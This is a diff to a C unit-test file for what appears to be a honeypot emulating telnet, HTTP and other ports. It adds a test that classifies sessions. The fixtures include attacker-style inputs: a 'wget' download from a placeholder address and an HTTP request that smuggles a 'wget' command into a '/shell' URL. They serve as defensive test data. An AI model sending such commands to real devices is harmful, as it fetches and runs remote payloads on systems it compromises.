@@ -245,6 +245,29 @@ static void request_of_another_protocol_is_no_login(void **state)
     said(state, "a b/1.1\nb", HELLO "a b/1.1\r\nPassword: ", "login a b/1.1 b refused\n");
 }
 
+/* Who was answered by lines, and who only by what is kept of his bytes. */
+static void lines_are_a_dialogue_and_requests_are_not(void **state)
+{
+    static const struct {
+        uint16_t port;
+        const char *text;
+        bool dialogue;
+    } cases[] = {
+        {23, "", true},
+        {23, ENTER "wget http://192.0.2.9/x", true},
+        {23, ENTER "GET / HTTP/1.0\r\n", true},
+        {23, "GET /shell?wget+http://192.0.2.9/x HTTP/1.1\r\n\r\n", false},
+        {80, "GET / HTTP/1.0\r\n\r\n", false},
+        {5555, "CNXN", false},
+        {443, "", false},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        struct played *played = play_text(persona_of_port(*state, cases[i].port), cases[i].text);
+        assert_int_equal(persona_is_dialogue(&played->session), cases[i].dialogue);
+        free(played);
+    }
+}
+
 static void long_line_is_handed_over_in_pieces_that_lose_nothing(void **state)
 {
     char text[6000] = ENTER, got[6000] = "";
@@ -344,6 +367,7 @@ int main(void)
         cmocka_unit_test(keys_edit_the_line),
         cmocka_unit_test(unfinished_line_is_handed_over_at_the_end),
         cmocka_unit_test(request_of_another_protocol_is_no_login),
+        cmocka_unit_test(lines_are_a_dialogue_and_requests_are_not),
         cmocka_unit_test(long_line_is_handed_over_in_pieces_that_lose_nothing),
         cmocka_unit_test(accepts_from_the_configured_try_on),
         cmocka_unit_test(hangs_up_after_too_many_refusals),
